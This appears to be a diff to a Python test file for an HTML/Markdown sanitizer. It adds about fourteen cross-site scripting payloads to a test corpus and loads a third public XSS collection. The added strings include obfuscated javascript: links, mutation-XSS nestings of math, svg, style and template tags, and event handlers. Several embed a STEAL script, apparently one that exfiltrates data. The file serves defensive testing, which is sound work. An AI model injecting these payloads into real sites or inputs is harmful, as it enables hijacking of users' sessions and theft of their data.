@@ -48,14 +48,34 @@ OWN = (
     "\u2028<script>alert(1)</script>\u2029",
     "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
     "<scr\x00ipt>alert(1)</scr\x00ipt>".replace("\x00", "\ufffd"),
+    "[x][1] [2] ![x][1]\n\n[1]: javascript:alert(1)\n[2]: <data:text/html,<script>alert(1)</script>> 'x\" onmouseover=alert(1)'",
+    "[x](java&#10;script:alert(1)) [x](java%0ascript:alert(1)) [x](\x01javascript:alert(1)) [x](javascript&colon;alert(1))",
+    '<a href="java\tscript:alert(1)" autofocus onfocus=alert(1)>x</a><a href=" &#x6A;avascript:alert(1)">x</a><a href="//evil.example">x</a>',
+    f'> <b title="> <img src=x onerror=alert(1)>\n\n- <i\n  onmouseover="{STEAL}">x',
+    f"| a | b |\n|---|---|\n| <img src=x onerror={STEAL}> | `<script>alert(1)</script>` |",
+    f"```html onload=alert(1)\n</code></pre><script>{STEAL}</script>\n```",
+    '<https://a.example/"onmouseover="alert(1)> http://a.example/"onmouseover="alert(1) http://a.example/\'><script>alert(1)</script>',
+    f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{STEAL}">',
+    f'<svg></p><style><a id="</style><img src=1 onerror={STEAL}>"></svg>',
+    f'<math><annotation-xml encoding="text/html"><xmp>&lt;/xmp&gt;&lt;img src=x onerror={STEAL}&gt;</xmp></math>',
+    f"<select><template><style><!--</style><img src=x onerror={STEAL}>--></template></select>",
+    f'<abbr title="&lt;/abbr&gt;&lt;img src=x onerror={STEAL}&gt;">x</abbr><a title="`-alert(1)-`">x</a>',
+    '<isindex action=javascript:alert(1)><frameset onload=alert(1)>',
+    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
 )  # fmt: skip
 
 
 def payloads() -> list[str]:
-    """Our own, and those of two public collections."""
+    """Our own, and those of three public collections."""
     strings = json.loads((CORPORA / "naughty-strings" / "strings.json").read_text())
     known = json.loads((CORPORA / "bleach" / "payloads.json").read_text())
-    return [*OWN, *known, *(text for text in strings if any(sign in text.lower() for sign in SIGNS))]
+    markdown = json.loads((CORPORA / "markdown-it" / "xss.json").read_text())
+    return [
+        *OWN,
+        *known,
+        *markdown,
+        *(text for text in strings if any(sign in text.lower() for sign in SIGNS)),
+    ]
 
 
 def ours(route: Route) -> bool:
